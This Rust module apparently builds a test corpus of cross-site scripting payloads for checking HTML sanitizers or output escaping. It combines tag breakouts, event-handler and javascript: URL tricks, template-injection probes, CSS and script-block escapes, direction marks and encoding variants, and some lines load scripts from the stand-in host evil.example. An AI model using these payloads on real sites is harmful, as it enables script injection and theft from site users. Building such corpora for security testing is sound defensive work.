//! Texts that become programs where a page lets them: put together from places to break out of, things to break in with, and ways
//! to write these.
//!
//! Each leaves a mark where it succeeds: it calls `alert` or sets `ran`, or makes an element or an attribute `xss`.

use std::collections::BTreeSet;

/// Places in a page where a text may stand, and what ends them.
const ENDS: [&str; 9] = [
    "",
    "\">",
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</option></select>",
    "</dd></dl>",
    "--></style>",
];

/// Elements that run something, that fetch something, or that change what the rest of a page does. `RUN` stands for a program.
const ELEMENTS: [&str; 36] = [
    "<script xss>RUN</script>",
    "<script xss src=//evil.example/x.js></script>",
    "<script xss type=module>RUN</script>",
    "<img xss src=x onerror=RUN>",
    "<img xss srcset=x onerror=\"RUN\">",
    "<image xss href=x onerror=RUN>",
    "<svg xss onload=RUN>",
    "<svg/xss/onload=RUN//",
    "<svg xss><script>RUN</script></svg>",
    "<svg xss><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
    "<svg xss><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg xss><set attributeName=href to=javascript:RUN></svg>",
    "<svg xss><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<math xss><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
    "<math xss><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    "<iframe xss src=javascript:RUN></iframe>",
    "<iframe xss srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "<object xss data=javascript:RUN></object>",
    "<embed xss src=javascript:RUN>",
    "<details xss open ontoggle=RUN>x</details>",
    "<input xss autofocus onfocus=RUN>",
    "<select xss autofocus onfocus=RUN></select>",
    "<video xss><source src=x onerror=RUN></video>",
    "<audio xss src=x onerror=RUN></audio>",
    "<marquee xss onstart=RUN>x</marquee>",
    "<a xss href=javascript:RUN>x</a>",
    "<form xss action=javascript:RUN><button>x</button></form>",
    "<button xss formaction=javascript:RUN>x</button>",
    "<base xss href=//evil.example/>",
    "<meta xss http-equiv=refresh content=\"0;url=javascript:RUN\">",
    "<link xss rel=stylesheet href=//evil.example/x.css>",
    "<style xss>*{background:url(//evil.example/x)}</style>",
    "<style xss>@import '//evil.example/x.css';</style>",
    "<p xss style=animation-name:x onanimationstart=RUN>x</p>",
    "<noscript xss><p title=\"</noscript><img src=x onerror=RUN>\"></p></noscript>",
    "<x-y xss onpointerenter=RUN tabindex=1 onfocus=RUN autofocus>x</x-y>",
];

/// Programs that leave a mark.
const PROGRAMS: [&str; 6] =
    ["ran=1", "alert(1)", "top.ran=1", "alert`1`", "self['al'+'ert'](1)", "eval(atob('cmFuPTE='))"];

/// Handlers of events, some of which happen by themselves.
const HANDLERS: [&str; 6] = [
    "onfocus",
    "onclick",
    "onanimationstart",
    "onpointerenter",
    "oncontentvisibilityautostatechange",
    "onload",
];

/// Addresses that are programs, or that lead where nobody meant to go.
const ADDRESSES: [&str; 26] = [
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "javascript://evil.example/%0aRUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "&#106;avascript:RUN",
    "&#x6a;avascript:RUN",
    "java&Tab;script:RUN",
    "java&NewLine;script:RUN",
    "java%09script:RUN",
    "\u{a0}javascript:RUN",
    "\u{feff}javascript:RUN",
    "java\u{ad}script:RUN",
    "\u{ff4a}avascript:RUN",
    "javascript:/*--></title></script>*/RUN",
    "data:text/html,<script xss>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "vbscript:RUN",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "//evil.example/RUN",
    "https:javascript:RUN",
    "https://evil.example/\"xss/onfocus=RUN/autofocus/x=\"",
    "https://evil.example/'><svg/xss/onload=RUN>",
    "https://evil.example\\@sample.example/#javascript:RUN",
];

/// What languages of templates would work out: 284487, or a program.
const TEMPLATES: [&str; 14] = [
    "{{31*9177}}",
    "{{{31*9177}}}",
    "${31*9177}",
    "#{31*9177}",
    "*{31*9177}",
    "@(31*9177)",
    "<%= 31*9177 %>",
    "[[${31*9177}]]",
    "{%print(31*9177)%}",
    "{{constructor.constructor('ran=1')()}}",
    "{{'<img xss src=x onerror=ran=1>'|safe}}",
    "{% raw %}<img xss src=x onerror=ran=1>{% endraw %}",
    "{ $title } { 31*9177 }",
    "{{ page.title|safe }}<svg xss onload=ran=1>",
];

/// Ways out of a style, and out of JSON in a page.
const STYLES_AND_DATA: [&str; 16] = [
    "x;background:url(//evil.example/x)",
    "}*{background:url(//evil.example/x)}",
    "expression(RUN)",
    "url(javascript:RUN)",
    "\\3c img xss src=x onerror=RUN\\3e",
    "/**/@import'//evil.example/x.css'",
    "\"}</script><script xss>RUN</script>",
    "</SCRIPT ><script xss>RUN</script>",
    "</script\u{a0}><script xss>RUN</script>",
    "<!--<script>RUN//--><script xss>RUN</script>",
    "<!--<script></script><script xss>RUN</script>",
    "\",\"url\":\"javascript:RUN\",\"x\":\"",
    "\\\"},\"@id\":\"javascript:RUN\",\"x\":{\"y\":\"",
    "]]><script xss>RUN</script>",
    "\u{2028}RUN\u{2028}</script><script xss>RUN</script>",
    "\\u003c/script\\u003e\\u003cscript xss\\u003eRUN\\u003c/script\\u003e",
];

/// Marks that turn the direction of text, or that are not seen, around something else.
const MARKS: [&str; 12] = [
    "\u{202e}",
    "\u{202d}",
    "\u{202a}",
    "\u{202b}",
    "\u{2066}",
    "\u{2067}",
    "\u{2068}",
    "\u{200f}",
    "\u{61c}",
    "\u{200b}",
    "\u{feff}",
    "\u{e0001}",
];

/// Ways to write the same, which something on the way might undo.
const WRITTEN: [fn(&str) -> String; 9] = [
    |text| {
        text.chars().enumerate().map(|(at, c)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c }).collect()
    },
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text| text.replace('<', "&#60;").replace('>', "&#62"),
    |text| text.replace('<', "&#x3c;").replace('>', "&#x3E;"),
    |text| text.replace('%', "%25").replace('<', "%3C").replace('>', "%3E").replace('"', "%22"),
    |text| text.replace('<', "%253C").replace('>', "%253E"),
    |text| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    |text| text.replace('<', "\\u003c").replace('>', "\\x3e"),
    |text| text.replace('<', "<\u{338}<").replace("=", "\u{a0}=\u{a0}"),
];

/// All of them, each once.
pub(super) fn all() -> Vec<String> {
    let mut all = BTreeSet::new();
    let mut programs = PROGRAMS.iter().cycle();
    let mut with_program = |text: &str| text.replace("RUN", programs.next().copied().unwrap_or_default());
    for element in ELEMENTS {
        all.extend(ENDS.map(|end| format!("{end}{}", with_program(element))));
    }
    for (at, element) in ELEMENTS.into_iter().enumerate() {
        // Each in five ways, all ways equally often.
        let ways = WRITTEN.iter().cycle().skip(at).take(5);
        all.extend(ways.map(|write| write(&with_program(element))));
    }
    for quote in ["\"", "'", "`", ""] {
        for handler in HANDLERS {
            let program = with_program("RUN");
            all.insert(
                format!("x{quote} xss {handler}={program} autofocus tabindex=1 x={quote}").trim().to_owned(),
            );
        }
    }
    all.extend(ADDRESSES.into_iter().chain(TEMPLATES).chain(STYLES_AND_DATA).map(&mut with_program));
    all.extend(MARKS.map(|mark| format!("safe{mark}<svg xss onload=ran=1>{mark}gpj.exe")));
    all.into_iter().collect()
}
